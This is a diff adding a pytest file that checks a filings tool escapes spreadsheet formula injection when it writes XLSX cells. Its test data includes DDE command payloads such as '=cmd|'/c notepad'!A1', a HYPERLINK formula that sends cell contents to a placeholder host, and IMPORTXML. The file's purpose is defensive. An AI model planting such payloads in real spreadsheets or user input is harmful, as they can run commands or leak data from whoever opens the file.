@@ -1,0 +1,172 @@
+import io
+import zipfile
+from datetime import date
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from connectors.filings.check_sheets.finding import SheetContext
+from connectors.filings.check_sheets.reader import read_checks
+from connectors.filings.check_sheets.sheet import SheetAccount, SheetRule
+from connectors.filings.check_sheets.writer import check_sheet
+from connectors.filings.forms.form import FilingForm
+from connectors.filings.forms.xlsx import read_xlsx_forms, xlsx_forms
+from connectors.filings.kinds import KINDS
+from connectors.filings.national import read_national, write_national
+from connectors.filings.templates import template
+from connectors.publish.documents import documents_of
+from connectors.publish.xlsx import read_xlsx
+from connectors.text_cells import MOST_CHARACTERS, write_row, write_text
+from events.instants import EPOCH
+from events.national import NationalEntry
+from tests.connectors.publish import bulletins
+from tests.projections.bulletin.city import silent
+
+LIVE = (
+    *(
+        "=1+2",
+        "=cmd|'/c notepad'!A1",
+        '=HYPERLINK("https://example.invalid/?"&B2,"领取")',
+        "=IMPORTXML(A1,A2)",
+    ),
+    *(
+        "+2+3",
+        "-5+cmd|'/c x'!A0",
+        "@SUM(A1:A9)",
+        "＝2*3",
+        "＋1",
+        "－1",
+        "＠甲",
+        "=甲发布",
+        "|calc",
+        "%甲",
+        "＝＝甲",
+    ),
+)
+QUIET = ("某市发布", "A=1", "甲-乙", "1+1", "007", "1E5", "2021-06-16", "TRUE", "#N/A", "<b>甲</b>", "{{甲}}")
+
+
+def pages_of(document: bytes) -> list:
+    """Return the cells of every page, after looking that no page holds a formula in any form."""
+    with zipfile.ZipFile(io.BytesIO(document)) as archive:
+        for name in archive.namelist():
+            part = archive.read(name)
+            assert not name.startswith("xl/worksheets") or b"<f" not in part.replace(b"<formula", b""), name
+            assert "externalLink" not in name
+    return [
+        cell
+        for page in load_workbook(io.BytesIO(document)).worksheets
+        for row in page.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+def require_texts(document: bytes, *texts: str) -> None:
+    """Texts stand as they are, as texts, and stay so when somebody edits their cells."""
+    cells = pages_of(document)
+    assert set(texts) <= {cell.value for cell in cells}
+    for cell in cells:
+        assert cell.hyperlink is None
+        if cell.value in LIVE:
+            assert (cell.data_type, cell.quotePrefix) == ("s", True)
+
+
+@pytest.mark.parametrize("text", LIVE)
+def test_what_a_spreadsheet_would_run_is_marked_as_text(text):
+    """In any width, and behind what cannot be seen: a formula, a link, an exchange with a program."""
+    page = Workbook().worksheets[0]
+    write_row(page, 1, (text, f"\t{text}", f"\n{text}", f"\u200b {text}"))
+    assert {("s", True)} == {(cell.data_type, cell.quotePrefix) for cell in page[1]}
+
+
+@pytest.mark.parametrize("text", QUIET)
+def test_other_texts_are_texts_without_a_mark(text):
+    """What looks like a number, a day or a word of the program stays as it was typed."""
+    page = Workbook().worksheets[0]
+    write_text(page.cell(1, 1), text)
+    cell = page.cell(1, 1)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)
+
+
+def test_a_text_that_looks_like_an_escaped_character_is_escaped():
+    """ECMA-376 part 1, 22.9.2.19: _x0041_ would be shown as A."""
+    page = Workbook().worksheets[0]
+    write_row(page, 1, ("甲_x0041_", "", "a" * (MOST_CHARACTERS + 1)))
+    assert page.cell(1, 1).value == "甲_x005F_x0041_"
+    assert page.cell(1, 2).value is None
+    assert page.cell(1, 3).value.endswith("a…")
+    assert len(page.cell(1, 3).value) == MOST_CHARACTERS
+
+
+def test_a_cell_inside_a_merged_one_is_refused():
+    """The library would drop the text without a word."""
+    page = Workbook().worksheets[0]
+    page.merge_cells("A1:B1")
+    with pytest.raises(TypeError, match="B1"):
+        write_text(page.cell(1, 2), "甲")
+
+
+@pytest.mark.parametrize("text", [*LIVE, *QUIET])
+def test_the_national_sheet_gives_back_what_went_into_it(tmp_path, text):
+    """Name, owner and all else are texts, and our own reader reads the same."""
+    path = tmp_path / "national.xlsx"
+    entry = NationalEntry(name=text, platform="抖音", owner=text, supervisor=text, tier=text, area=text)
+    write_national(path, [entry])
+    require_texts(path.read_bytes(), text)
+    (read,) = read_national(path)
+    assert (entry.name, entry.owner, entry.supervisor) == (read.name, read.owner, read.supervisor)
+    assert (entry.tier, entry.area) == (read.tier, read.area)
+
+
+@pytest.mark.parametrize("text", LIVE)
+def test_filing_forms_give_back_what_went_into_them(tmp_path, text):
+    """The title of a page holds the owner, and the page is named by it."""
+    form = FilingForm(
+        kind="opened",
+        name=text,
+        platform="抖音",
+        owner=text,
+        description=text,
+        section=text,
+        reason=text,
+        effective_on=date(2023, 1, 1),
+    )
+    path = tmp_path / "forms.xlsx"
+    path.write_bytes(xlsx_forms([form]))
+    require_texts(path.read_bytes(), text)
+    (read,) = read_xlsx_forms(path)
+    assert form == read
+
+
+@pytest.mark.parametrize("text", LIVE)
+def test_a_check_sheet_gives_back_what_went_into_it(tmp_path, text):
+    """Accounts, owners and the names of rules."""
+    account = SheetAccount("douyin:1", text, "抖音", text)
+    path = tmp_path / "sheet.xlsx"
+    path.write_bytes(check_sheet(text, "m", [account], [SheetRule("r", text, "扣分", text)]))
+    require_texts(path.read_bytes(), text)
+    context = SheetContext("m", {"douyin:1": text}, lambda *_: ("r", "yellow"), str, EPOCH, EPOCH)
+    assert read_checks(path, context) == []
+
+
+def test_a_bulletin_gives_back_what_went_into_it():
+    """Annex, figures, and the sheets inside the charts of the DOCX."""
+    content = bulletins.content(
+        *(silent(n, 20, name=text, owner=text) for n, text in enumerate(LIVE, start=1))
+    )
+    documents = documents_of(content, bulletins.templates())
+    require_texts(documents["xlsx"], *LIVE)
+    _, annex = read_xlsx(documents["xlsx"])
+    assert set(LIVE) <= {text for row in annex for text in row}
+    with zipfile.ZipFile(io.BytesIO(documents["docx"])) as archive:
+        books = [archive.read(name) for name in archive.namelist() if name.endswith(".xlsx")]
+    assert books
+    for book in books:
+        pages_of(book)
+
+
+@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
+def test_templates_hold_texts(kind):
+    """Explanations may begin with any sign."""
+    pages_of(template(kind))
